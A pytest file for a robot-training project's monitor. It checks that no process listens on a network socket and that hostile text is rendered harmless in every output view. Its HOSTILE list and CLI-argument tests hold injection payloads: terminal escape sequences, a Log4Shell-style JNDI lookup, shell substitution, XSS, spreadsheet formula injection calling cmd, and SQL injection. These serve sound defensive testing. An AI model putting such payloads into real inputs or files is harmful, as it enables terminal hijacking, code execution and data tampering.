"""X10 nothing listens, X11 no markup, X12 no formulas, X13 foreign text at every output."""

import ast
import importlib.util
import json
import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from synthetic_job import SECOND, collector, fold, iteration, run_info

from unilab_core.launch.outcome import Failure
from unilab_core.telemetry.plain import note_line, progress_line, sanitize
from unilab_core.telemetry.records import Note
from unilab_monitor.glyphs import ASCII
from unilab_monitor.plain import plain_line, text_view
from unilab_monitor.snapshot import snapshot
from unilab_monitor.view import EndView, EventView, JobFacts

ROOT = Path(__file__).parents[2]
PACKAGES = ("unilab_ipc", "unilab_core", "unilab_collector", "unilab_learner", "unilab_monitor")
ESC = "\x1b"

HOSTILE = [
    f"{ESC}[2J", f"{ESC}]0;owned\a", f"{ESC}[31mred{ESC}[0m", f"{ESC}P+q544e{ESC}\\", f"{ESC}[6n",
    f"{ESC}]8;;http://evil\a link", f"{ESC}c", f"{ESC}[?1049h", f"{ESC}[20t", f"{ESC}(0", "\x9b31m",
    "\x9d0;title\x9c", "\x90q\x9c", "\x84\x85\x8d", "\x00", "a\x00b", "\a\a\a", "\b\b\boverwritten",
    "\roverwritten", "line\nline", "line\r\nline", "\x0b\x0c", "\t\t", "\x7f\x7f", "\x1a\x04\x03",
    "\u202eevil\u202c", "\u2066isolate\u2069", "\u200b\u200d\ufeff", "\u2028line", "\u2029para",
    "\u061carabic mark", "\ufff9interlinear\ufffb", "\U000e0041\U000e0042", "\ue000private",
    "\ud800lone", "\u0085next line", "\u00adsoft", "[bold red]x[/]", "[link=file:///etc/passwd]x",
    "[@click=app.quit]x[/]", "{task}{0}%s%n%x", "${jndi:ldap://evil}", "$(reboot)`reboot`",
    "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", "&lt;b&gt;&#x1b;",
    "=HYPERLINK(\"http://evil\",\"x\")", "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "x" * 5000,
    "e\u0301" * 300, "';DROP TABLE runs;--",
]  # fmt: skip


def harmless(text, *, lines=1):
    """Nothing a terminal would obey: no control, format, surrogate or separator character."""
    assert len(text.splitlines()) <= lines
    bad = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
    found = {f"{ord(c):x}" for c in text if unicodedata.category(c) in bad and c != "\n"}
    assert found == set()


def sources():
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            yield path, path.read_text(encoding="utf-8")


def test_x10_there_is_no_web_view_and_no_server_of_any_kind():
    """The day a web view comes, its Host, token and bind tests come here in place of this one."""
    assert importlib.util.find_spec("unilab_monitor.web") is None
    servers = {
        "http.server",
        "socketserver",
        "xmlrpc.server",
        "starlette",
        "uvicorn",
        "aiohttp",
        "flask",
    }
    wrong = []
    for path, text in sources():
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            elif isinstance(node, ast.Attribute) and node.attr in {
                "listen",
                "create_server",
                "start_server",
            }:
                names = [f"{node.attr}()"]
            else:
                continue
            wrong += [
                f"{path}: {n}"
                for n in names
                if n in servers or n.split(".")[0] in servers or n.endswith("()")
            ]
    assert wrong == []


def listening_inodes():
    found = set()
    for table in ("tcp", "tcp6", "udp", "udp6"):
        path = Path("/proc/net") / table
        for line in path.read_text().splitlines()[1:] if path.exists() else []:
            fields = line.split()
            if table.startswith("udp") or fields[3] == "0A":
                found.add(fields[9])
    return found


def sockets_of(pid):
    links = (os.readlink(path) for path in Path(f"/proc/{pid}/fd").iterdir())
    return {link[8:-1] for link in links if link.startswith("socket:[")}


@pytest.mark.e2e
@pytest.mark.serial
def test_x10_no_process_of_a_job_listens(launch):
    process = launch.start("algo.max_iterations=100000")
    processes, _ = launch.running()
    pids = {pid for pid, _ in processes.values()} | {process.pid}
    assert len(pids) == 3
    assert {pid for pid in pids if sockets_of(pid) & listening_inodes()} == set()
    process.terminate()
    process.communicate()


def test_x11_nothing_writes_markup():
    """The timeline is a binary trace, the figures are text: names are never inside HTML."""
    wrong = [
        str(path)
        for path, text in sources()
        if "<html" in text.lower() or "<script" in text.lower()
    ]
    assert wrong == []


def test_x11_figures_for_scripts_are_plain_ascii_json():
    for text in HOSTILE:
        line = json.dumps(snapshot(hostile_view(text)), allow_nan=False)
        assert line.isascii()
        harmless(line)


def test_x12_nothing_writes_spreadsheets():
    """Tables leave as JSON. Whoever adds a CSV writer adds the apostrophe of X12 and its test."""
    wrong = []
    for path, text in sources():
        for node in ast.walk(ast.parse(text)):
            if isinstance(node, ast.Attribute) and node.attr in {"DictWriter", "to_csv"}:
                wrong.append(f"{path}:{node.lineno}")
            if isinstance(node, ast.Call) and ast.unparse(node.func) == "csv.writer":
                wrong.append(f"{path}:{node.lineno}")
    assert wrong == []


def hostile_view(text, **batch):
    """A job all of whose foreign texts are this one."""
    short = text[:2000]
    info = run_info(job=short, task=short, run_dir=f"/logs/{short}", sim=short)
    tick = collector(SECOND, 1, terminations_total={f"Episode_Termination/{short}": 1.0})
    report = iteration(
        SECOND,
        5,
        status=short,
        rewards={f"reward/{short}": 1.0},
        metrics={f"Loss/{short}": 1.0, short: 2.0},
    )
    return fold(
        learner=[info, report, Note(t_ns=SECOND, text=short, level="error")],
        collector=[tick],
        now_ns=2 * SECOND,
        facts=JobFacts(job=short, run_dir=short, task=short),
        **batch,
    )


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_x13_foreign_text_is_harmless_in_every_view(text):
    assert len(HOSTILE) >= 50
    harmless(sanitize(text, 100))
    harmless(note_line(Note(t_ns=0, text=text)))
    report = iteration(SECOND, 5, status=text[:4000])
    harmless(progress_line(report, run_info()))
    failure = Failure(exit_code=10, role="learner", rank=0, pid=1, cause=text, phase="training/x")
    harmless(failure.line())
    view = hostile_view(text)
    assert len(view.events) == 1
    assert isinstance(view.events[0], EventView)
    harmless(plain_line(view))
    harmless(text_view(view, 100, ASCII), lines=200)
    ended = hostile_view(text, end=EndView(reason=text))
    harmless(plain_line(ended))
    harmless(text_view(ended, 100, ASCII), lines=200)


@pytest.mark.parametrize(
    "words",
    [
        ("unilab_core.launch", "--algo", f"{ESC}[31m", "--task", "go2_joystick_flat"),
        ("unilab_core.launch", "--algo", "sac", "--task", f"go2{ESC}]0;x\a"),
        ("unilab_core.launch", "--algo", "sac", "--task", "go2_joystick_flat", f"algo.{ESC}[2J=1"),
        (
            "unilab_core.launch",
            "--algo",
            "sac",
            "--task",
            "go2_joystick_flat",
            "--job",
            f"a{ESC}[2Jb",
        ),
        ("unilab_core.launch", "stop", f"{ESC}[2J"),
        ("unilab_monitor", f"{ESC}]0;x\a", "--once"),
        ("unilab_core.tools.eval_cli", f"/nowhere/{ESC}[2J"),
        ("unilab_core.tools.soak.cli", "--out", f"/proc/{ESC}[2J", "--", "true"),
    ],
)
def test_x13_an_error_shows_a_hostile_argument_harmlessly(words, tmp_path):
    done = subprocess.run(
        [sys.executable, "-m", *words], cwd=tmp_path, capture_output=True, text=True, timeout=120,
        env={**os.environ, "PYTHONPATH": str(ROOT), "CUDA_VISIBLE_DEVICES": ""},
        stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert done.returncode in (2, 6), (done.returncode, done.stderr)
    harmless(done.stderr)
    harmless(done.stdout)
